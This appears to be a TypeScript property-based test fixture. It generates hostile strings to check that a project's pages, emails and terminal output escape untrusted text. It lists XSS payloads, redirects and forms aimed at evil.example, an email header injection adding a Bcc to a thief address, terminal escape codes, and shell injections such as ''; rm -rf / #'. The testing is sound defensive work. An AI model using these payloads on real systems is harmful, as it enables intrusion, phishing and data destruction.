import fc from 'fast-check';
import type { ErrorCode, Failure } from '../../src/domain/errors';

/** What a stranger may write into a label, a name, a registry's error or a log line to get out of a page's or a mail's text. */
export const HOSTILE = [
  '<script>alert(1)</script>',
  '</title></style></script><script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '" autofocus onfocus=alert(1) x="',
  'javascript:alert(1)',
  'JaVaScRiPt\u0000:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'https://bank.example@evil.example/',
  '//evil.example/x',
  '</pre></div></main></body><iframe src=//evil.example>',
  '</textarea></select></button></form><form action=//evil.example><button>Approve</button>',
  '<meta http-equiv=refresh content=0;url=//evil.example>',
  '<base href=//evil.example>',
  '<!-- --!><svg/onload=alert(1)>',
  '\u202egnp.exe\u2066',
  '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007',
  '\u2028--\u2029',
  '\ud800',
  '&lt;b&gt;&#x6a;avascript:',
  // Of a mail's header lines and its plain text.
  '\r\nBcc: thief@evil.example',
  '\nSubject: fake\n\n<p>body</p>',
  '=?utf-8?q?=0D=0ABcc:_thief@evil.example?=',
  '\n-- \nDOWN, ACT NOW',
  // Of a terminal and a shell.
  '\u001b[2J\u001b[31mred',
  "'; rm -rf / #",
  '$(reboot)`reboot`',
];

const piece = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
);
export const hostile = fc.array(piece, { minLength: 1, maxLength: 3 }).map((pieces) => pieces.join(''));

export type Strings = readonly string[];

/** As many as the richest page or mail has places for. */
export const tenHostile = fc.array(hostile, { minLength: 10, maxLength: 10 });

/** A code that no diun-pilot writes: the database may hold what another version has written. */
export function hostileFailure(code: string, message: string): Failure {
  return { code: code as ErrorCode, message };
}
